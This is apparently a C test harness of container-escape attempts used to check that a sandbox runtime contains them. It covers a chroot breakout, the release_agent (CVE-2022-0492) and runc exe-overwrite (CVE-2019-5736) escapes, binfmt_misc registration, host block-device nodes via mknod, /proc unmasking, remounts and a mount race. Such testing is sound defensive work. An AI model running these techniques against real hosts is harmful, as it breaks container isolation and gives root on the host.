// Files of the host, by whatever way leads to them.
#include "attempt.h"

#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>

// chroot_breakout MARKER: the classic. A directory that was opened before a second chroot lies above the new root, and
// ".." from there is never stopped. MARKER is a file that exists outside only.
ATTEMPT(chroot_breakout) {
    int above = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/breakout", 0755);
    if (chroot("/breakout") < 0)
        return stopped("chroot");
    if (fchdir(above) < 0)
        return stopped("fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return stopped("chdir");
    if (chroot(".") < 0)
        return stopped("second chroot");
    return access(args[0], F_OK) == 0 ? got("%s", args[0]) : stopped(args[0]);
}

// write_to FILE VALUE
ATTEMPT(write_to) {
    int fd = open(args[0], O_WRONLY);
    if (fd < 0)
        return stopped("open");
    return write(fd, args[1], strlen(args[1])) >= 0 ? got("to write %s", args[0]) : stopped("write");
}

// read_from FILE
ATTEMPT(read_from) {
    char bytes[256];
    int fd = open(args[0], O_RDONLY);
    if (fd < 0)
        return stopped("open");
    ssize_t length = read(fd, bytes, sizeof bytes);
    if (length < 0)
        return stopped("read");
    return length > 0 ? got("%zd bytes of %s", length, args[0]) : stopped_because("%s is empty", args[0]);
}

// open FILE: a device does harm by what it can be asked for, so having it open is enough.
ATTEMPT(open) {
    return open(args[0], O_RDWR) >= 0 ? got("%s", args[0]) : stopped("open");
}

// inherited_fds: a descriptor that this program did not open, or a standard one that is a directory.
ATTEMPT(inherited_fds) {
    for (int fd = 0; fd < 4096; fd++) {
        struct stat info;
        if (fstat(fd, &info) == 0 && (fd > 2 || S_ISDIR(info.st_mode)))
            return got("fd %d", fd);
    }
    return stopped_because("nothing but 0, 1, 2");
}

// host_disk MAJOR MINOR
ATTEMPT(host_disk) {
    char byte;
    unlink("/root/disk");
    if (mknod("/root/disk", S_IFBLK | 0600, makedev((unsigned)atoi(args[0]), (unsigned)atoi(args[1]))) < 0)
        return stopped("mknod");
    int fd = open("/root/disk", O_RDONLY);
    unlink("/root/disk");
    if (fd < 0)
        return stopped("open");
    return read(fd, &byte, 1) == 1 ? got("to read the disk") : stopped("read");
}

// A process in namespaces of its own, as root of its own user namespace.
static int in_namespaces(int (*then)(char **), char **args) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
        return stopped("unshare");
    int status;
    pid_t child = fork();
    if (child == 0)
        _exit(then(args));
    waitpid(child, &status, 0);
    return WEXITSTATUS(status);
}

static int mount_and_write(char **args) {
    char path[128];
    mkdir("/root/fresh", 0755);
    if (mount("proc", "/root/fresh", "proc", 0, NULL) < 0)
        return stopped("mount");
    snprintf(path, sizeof path, "/root/fresh/%s", args[0]);
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return stopped("open");
    return write(fd, args[1], strlen(args[1])) >= 0 ? got("to write %s", path) : stopped("write");
}

// fresh_proc FILE VALUE: what is masked in /proc is not masked in a /proc of one's own.
ATTEMPT(fresh_proc) {
    return in_namespaces(mount_and_write, args);
}

// fresh_proc_directly FILE VALUE: the same without namespaces.
ATTEMPT(fresh_proc_directly) {
    return mount_and_write(args);
}

// unmask PATH: takes off what covers PATH.
ATTEMPT(unmask) {
    return umount2(args[0], MNT_DETACH) == 0 ? got("%s uncovered", args[0]) : stopped("umount");
}

// remount PATH: a read-only mount made writable again.
ATTEMPT(remount) {
    return mount(NULL, args[0], NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? got("%s writable", args[0])
                                                                       : stopped("remount");
}

// release_agent OPTIONS: a program that the host's kernel runs as root when a group empties (CVE-2022-0492).
ATTEMPT(release_agent) {
    mkdir("/root/cgroups", 0755);
    if (mount("cgroup", "/root/cgroups", "cgroup", 0, args[0]) < 0)
        return stopped("mount");
    int fd = open("/root/cgroups/release_agent", O_WRONLY);
    int code = errno;
    int result = fd >= 0 && write(fd, "/bin/true", 9) == 9;
    code = fd >= 0 ? errno : code;
    umount2("/root/cgroups", MNT_DETACH);
    rmdir("/root/cgroups");
    errno = code;
    return result ? got("to set release_agent") : stopped("release_agent");
}

// own_limit CONTROLLER FILE VALUE: a hierarchy of cgroup v1 mounted anew, and one's own limit raised in it.
ATTEMPT(own_limit) {
    char path[128];
    mkdir("/root/cgroups", 0755);
    if (mount("cgroup", "/root/cgroups", "cgroup", 0, args[0]) < 0)
        return stopped("mount");
    snprintf(path, sizeof path, "/root/cgroups/%s", args[1]);
    int fd = open(path, O_WRONLY);
    int result = fd < 0                                    ? stopped("open")
                 : write(fd, args[2], strlen(args[2])) > 0 ? got("%s", path)
                                                           : stopped("write");
    umount2("/root/cgroups", MNT_DETACH);
    rmdir("/root/cgroups");
    return result;
}

// overwrite_exe PATH: waits for a process whose program is PATH and writes over that program (CVE-2019-5736). Opened by
// O_PATH while it runs, for writing once nobody runs it any more.
ATTEMPT(overwrite_exe) {
    char path[64], link[256];
    int held = -1;
    printf("WAITING\n");
    fflush(stdout);
    for (time_t end = time(NULL) + 4; held < 0 && time(NULL) < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; held < 0 && (entry = readdir(processes));) {
            snprintf(path, sizeof path, "/proc/%.16s/exe", entry->d_name);
            ssize_t length = atoi(entry->d_name) > 0 ? readlink(path, link, sizeof link - 1) : -1;
            if (length > 0 && (link[length] = '\0', strcmp(link, args[0]) == 0))
                held = open(path, O_PATH);
        }
        closedir(processes);
    }
    if (held < 0)
        return stopped_because("never saw %s", args[0]);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int round = 0; round < 1000; round++, usleep(1000)) {
        if (open(path, O_WRONLY) >= 0)
            return got("%s open for writing", link);
        if (errno != ETXTBSY)
            break;
    }
    return stopped("open for writing");
}

// setuid_program: a setuid program run by somebody else than root.
ATTEMPT(setuid_program) {
    if (geteuid() == 0 && getuid() != 0)
        return got("to be root by a setuid program");
    if (args[0] && strcmp(args[0], "again") == 0)
        return stopped_because("still uid %u", geteuid());
    if (system("cp /proc/$PPID/exe /tmp/setuid && chmod 4755 /tmp/setuid") != 0)
        return stopped_because("cannot make a setuid program");
    if (setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0)
        return stopped("setresuid");
    execl("/tmp/setuid", "attempts", "setuid_program", "again", NULL);
    return stopped("exec");
}

// device TYPE MAJOR MINOR: a node of one's own, and opening it.
ATTEMPT(device) {
    unlink("/root/device");
    mode_t type = *args[0] == 'b' ? S_IFBLK : S_IFCHR;
    if (mknod("/root/device", type | 0600, makedev((unsigned)atoi(args[1]), (unsigned)atoi(args[2]))) < 0)
        return stopped("mknod");
    int fd = open("/root/device", O_RDWR);
    unlink("/root/device");
    return fd >= 0 ? got("device %s %s:%s", args[0], args[1], args[2]) : stopped("open");
}

static int mount_and_read(char **args) {
    char path[128], bytes[256];
    mkdir("/root/fresh", 0755);
    if (mount("proc", "/root/fresh", "proc", 0, NULL) < 0)
        return stopped("mount");
    snprintf(path, sizeof path, "/root/fresh/%s", args[0]);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return stopped("open");
    return read(fd, bytes, sizeof bytes) > 0 ? got("to read %s", path) : stopped("read");
}

// fresh_proc_read FILE: what is masked in /proc, in a /proc of one's own.
ATTEMPT(fresh_proc_read) {
    return in_namespaces(mount_and_read, args);
}

// binfmt: a program of one's own for files of some kind, on the whole host.
ATTEMPT(binfmt) {
    static const char kind[] = ":bulkhead-escape:M::\\x7fESCAPE::/root/attempts:";
    mkdir("/root/binfmt", 0755);
    if (mount("binfmt_misc", "/root/binfmt", "binfmt_misc", 0, NULL) < 0)
        return stopped("mount");
    int fd = open("/root/binfmt/register", O_WRONLY);
    if (fd < 0)
        return stopped("open");
    return write(fd, kind, sizeof kind - 1) > 0 ? got("a kind of file") : stopped("write");
}

// times_of FILE: writes to a device are nobody's business, but the node is the host's.
ATTEMPT(times_of) {
    return utimensat(AT_FDCWD, args[0], NULL, 0) == 0 ? got("the times of %s", args[0]) : stopped("utimensat");
}

// exchange ONE OTHER: exchanges two names again and again, until standard input closes.
ATTEMPT(exchange) {
    alarm(0);
    got("to begin");
    for (;;) {
        for (int i = 0; i < 1000; i++)
            if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0)
                return stopped("renameat2");
        struct pollfd in = {0, POLLIN, 0};
        if (poll(&in, 1, 0) != 0)
            return 0;
    }
}

// mount_by_name ROOT PATH: what a runtime must not do: it looks for links on the way, then mounts by name, and counts
// how often the mount is not below ROOT.
ATTEMPT(mount_by_name) {
    char path[4096], real[4096];
    int outside = 0;
    time_t end = time(NULL) + 15;
    for (int i = 0; time(NULL) < end; i++) {
        snprintf(path, sizeof path, "%s%s", args[0], args[1]);
        if (!realpath(path, real) || strncmp(real, args[0], strlen(args[0])) != 0)
            continue; // as a careful one would
        if (mount("swapped", path, "tmpfs", 0, NULL) < 0)
            continue;
        FILE *mounts = fopen("/proc/self/mountinfo", "r");
        for (char line[4096]; fgets(line, sizeof line, mounts);)
            if (strstr(line, " swapped ") && !strstr(line, args[0]))
                outside++;
        fclose(mounts);
        umount2(path, MNT_DETACH);
        if (outside)
            return got("a mount outside after %d", i + 1);
    }
    return stopped_because("never outside");
}
